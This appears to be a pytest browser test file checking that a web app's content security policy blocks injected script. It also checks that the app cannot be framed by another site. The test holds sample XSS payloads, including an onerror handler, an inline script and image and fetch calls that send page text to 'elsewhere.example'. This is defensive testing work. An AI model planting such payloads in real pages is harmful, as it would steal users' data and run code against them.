"""The content policy that every answer carries: what would harm does not happen. That no page needs what it forbids is looked at by
every test of this folder (open_page)."""

from __future__ import annotations

from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest

from tests.browser.whole_app import at_rest

pytestmark = pytest.mark.browser
INJECTED = """() => new Promise((done) => {
  const refused = [];
  document.addEventListener('securitypolicyviolation', (event) => {
    refused.push(event.effectiveDirective);
    if (refused.length === 5) done([refused.sort(), window.stolen ?? null]);
  });
  const put = (html) => document.body.append(document.createRange().createContextualFragment(html));
  put('<img src="data:," onerror="window.stolen = 1">');
  put('<script>window.stolen = 2</script>');
  put('<img src="https://elsewhere.example/?secret">');
  put('<iframe src="https://elsewhere.example/"></iframe>');
  fetch('https://elsewhere.example/', { method: 'POST', body: document.body.innerText }).catch(() => {});
})"""


def test_what_is_slipped_into_a_page_neither_runs_nor_reaches_anybody(first, forbidden):
    page = first()
    at_rest(page)
    refused, stolen = page.evaluate(INJECTED)
    assert refused == ["connect-src", "frame-src", "img-src", "script-src-attr", "script-src-elem"]
    assert stolen is None
    assert forbidden


@pytest.fixture
def elsewhere():
    """elsewhere(html) -> the address of a page of another server on this machine."""
    html = b""

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(html)

        def log_message(self, *_) -> None: ...

    def show(text: str) -> str:
        nonlocal html
        html = text.encode()
        return f"http://127.0.0.1:{server.server_port}/"

    with ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield show
        server.shutdown()


def test_no_page_of_elsewhere_can_frame_the_app(url, serve, open_page, elsewhere, forbidden):
    """An app that says nothing about it can be framed."""
    page = open_page(elsewhere(f"<iframe src='{url}'></iframe><iframe src='{serve('slow.py')}'></iframe>"))
    ours, another = page.frames[1:]
    assert ours.url.startswith("chrome-error:") and another.url.startswith("http://127.0.0.1")
